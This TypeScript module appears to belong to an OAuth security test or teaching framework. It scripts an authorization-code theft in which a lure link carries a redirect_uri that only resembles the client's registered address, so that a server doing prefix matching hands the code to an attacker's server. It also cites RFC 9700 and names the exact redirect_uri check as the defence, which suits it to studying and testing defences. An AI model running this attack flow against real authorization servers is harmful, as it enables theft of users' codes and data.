import type { Step } from '../../flows/step.js'
import { codeRequest } from './code-request.js'
import type { Refusal } from './defence.js'
import { type Attack, planned } from './model.js'
import { authorize, parameterOf } from './moves.js'
import { CODE_ARRIVAL, THEFT_BY_PUBLIC_CLIENT } from './planned-steps.js'
import { stealRecords } from './records-theft.js'
import type { Scene } from './scene.js'
import { HONEST_LOGIN, honestLogin } from './victim.js'

/** The client in whose name the attacker asks: public, and known to alice. */
const CLIENT = 'notes-app'

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { victim, catcher, step } = scene
  yield* honestLogin(scene)

  const { url: link, redeem } = codeRequest(scene, catcher.client, catcher.address)
  yield step('lure', { url: link, note: `the answer is to go to ${catcher.address}` })

  const landing = yield* authorize(scene, link, {
    browser: victim,
    account: scene.accounts.victim,
    names: ['authorization_request', 'authorization_request'],
  })
  if (landing.target === undefined || !landing.target.startsWith(catcher.address))
    return scene.refusal(landing.exchange)
  const arrived = (await victim.follow(landing.exchange))!
  yield step('code_arrival', { exchange: arrived })

  const code = parameterOf(arrived.request.url, 'code')
  if (code === undefined) return scene.refusal(landing.exchange)
  return yield* stealRecords(scene, redeem(code))
}

/** A code that the authorization server sends to the attacker, because it compares addresses badly. */
export const stolenCode: Attack = {
  name: 'stolen-code',
  title: 'a code sent to an address that only looks like the client’s',
  rule: 'RFC 9700 §4.1.1',
  weak: ['redirect-prefix'],
  opened: { 'redirect-prefix': { stolen: true }, 'redirect-any': { stolen: true } },
  starts: [
    'The attacker can send alice a link, and has a server of their own (A1 in RFC 9700 §3).',
    'The attacker knows the client_id of a public client; it is in every authorization request.',
    'The address of the attacker’s server begins like the registered address of the client.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'redirect_uri', rule: 'RFC 9700 §4.1.3' }],
  wouldNotHelp: [
    'PKCE: the attacker made the request, so the verifier is the attacker’s too',
    'state: the answer never comes to the client that would compare it',
    'TLS: every connection of the attack is encrypted, the last one for the attacker',
  ],
  // The port of a loopback address does not count (RFC 8252 §7.3), so that the longer path is the attacker's.
  running: { standIn: 'demo-spa', answersAt: '/callback-of-mallory' },
  // A registered address without its end: the address of the attacker has one digit more.
  clients: site => [
    {
      ...{ client_id: CLIENT, client_name: 'Notes', redirect_uris: [site.slice(0, -1)], consent: 'granted' },
      ...{ grant_types: ['authorization_code'], response_types: ['code'] },
    },
  ],
  plan: [
    HONEST_LOGIN,
    planned(
      'lure',
      ['attacker', 'user_agent'],
      'a link in a mail',
      '9700 §4.1.1',
      'The attacker sends alice an authorization request in the name of a real client, with an address of the attacker in it.',
    ),
    planned(
      'authorization_request',
      ['user_agent', 'authorization_server'],
      'GET /authorization',
      '6749 §4.1.1',
      'Alice opens the link. Her session answers for her. The server compares redirect_uri with the registered address.',
    ),
    CODE_ARRIVAL,
    ...THEFT_BY_PUBLIC_CLIENT,
  ],
  run,
}
